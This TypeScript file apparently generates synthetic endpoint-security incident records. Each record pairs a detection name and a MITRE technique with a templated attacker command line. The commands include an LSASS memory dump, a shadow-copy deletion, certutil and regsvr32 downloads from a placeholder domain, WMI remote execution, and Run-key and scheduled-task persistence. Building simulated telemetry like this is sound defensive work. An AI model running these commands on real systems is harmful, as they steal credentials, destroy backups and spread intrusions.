import type { Row } from '../profile-data.js';
import { encodedScripts } from '../vocabulary/powershell.js';

const SYSTEM = 'C:\\Windows\\System32';
const ROAMING = 'C:\\Users\\${user.login}\\AppData\\Roaming';
const SHELL = `${SYSTEM}\\cmd.exe`;
const DESKTOP = 'C:\\Windows\\explorer.exe';
const anyName = '${pattern:xxxxxxxx}';

/** What was found; the program that did it, with its folder and arguments; and the path of the one that started it. */
function incident(
  [name, types, technique]: readonly [name: string, types: readonly string[], technique: readonly string[]],
  program: string,
  commandArguments: string,
  parent = SHELL,
  folder = SYSTEM,
): Row {
  const path = `${folder}\\${program}`;
  return {
    ...{ name, types: JSON.stringify(types), technique: JSON.stringify(technique), program, path, parent },
    commandLine: `"${path}" ${commandArguments}`,
  };
}

export const incidents: readonly Row[] = [
  incident(['ATC.Malicious', ['Malware'], ['T1059']], 'cmd.exe', `/c ${ROAMING}\\${anyName}.bat`, DESKTOP),
  incident(
    ['PowerShell.Encoded', ['Suspicious'], ['T1059.001']],
    'powershell.exe',
    `-NoProfile -WindowStyle Hidden -EncodedCommand \${choice:${encodedScripts.join(',')}}`,
    SHELL,
    `${SYSTEM}\\WindowsPowerShell\\v1.0`,
  ),
  incident(
    ['Lsass.Read', ['Credential Access'], ['T1003.001']],
    'rundll32.exe',
    `${SYSTEM}\\comsvcs.dll, MiniDump \${between:500,900} C:\\Windows\\Temp\\${anyName}.dmp full`,
  ),
  incident(['ShadowCopy.Deleted', ['Ransomware'], ['T1490']], 'vssadmin.exe', 'delete shadows /all /quiet'),
  incident(
    ['Office.SpawnsShell', ['Malware', 'Suspicious'], ['T1566.001', 'T1204.002']],
    'cmd.exe',
    `/c start /b ${ROAMING}\\${anyName}.exe`,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\${choice:winword,excel,powerpnt}.exe',
  ),
  incident(
    ['Certutil.Download', ['Suspicious'], ['T1105']],
    'certutil.exe',
    `-urlcache -split -f http://\${site.domain}/${anyName}.txt ${ROAMING}\\${anyName}.exe`,
  ),
  incident(
    ['Regsvr32.Scriptlet', ['Suspicious'], ['T1218.010']],
    'regsvr32.exe',
    `/s /n /u /i:http://\${site.domain}/${anyName}.sct scrobj.dll`,
  ),
  incident(
    ['Wmi.RemoteProcess', ['Lateral Movement'], ['T1047']],
    'wmic.exe',
    `/node:\${otherHost.name} process call create C:\\Windows\\Temp\\${anyName}.exe`,
    SHELL,
    `${SYSTEM}\\wbem`,
  ),
  incident(
    ['Service.AdminShare', ['Lateral Movement'], ['T1021.002']],
    'net.exe',
    'use \\\\${otherHost.name}\\ADMIN$ /user:EXAMPLE\\${user.login}',
  ),
  incident(
    ['RunKey.ScriptHost', ['Persistence'], ['T1547.001']],
    'reg.exe',
    `add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${anyName} /d "wscript.exe //B ${ROAMING}\\${anyName}.js" /f`,
    `${SYSTEM}\\wscript.exe`,
  ),
  incident(
    ['Task.TempFolder', ['Persistence'], ['T1053.005']],
    'schtasks.exe',
    `/create /sc minute /mo \${choice:5,10,30} /tn ${anyName} /tr C:\\Windows\\Temp\\${anyName}.exe`,
  ),
  incident(['Nltest.Trusts', ['Discovery'], ['T1482']], 'nltest.exe', '/domain_trusts /all_trusts'),
];
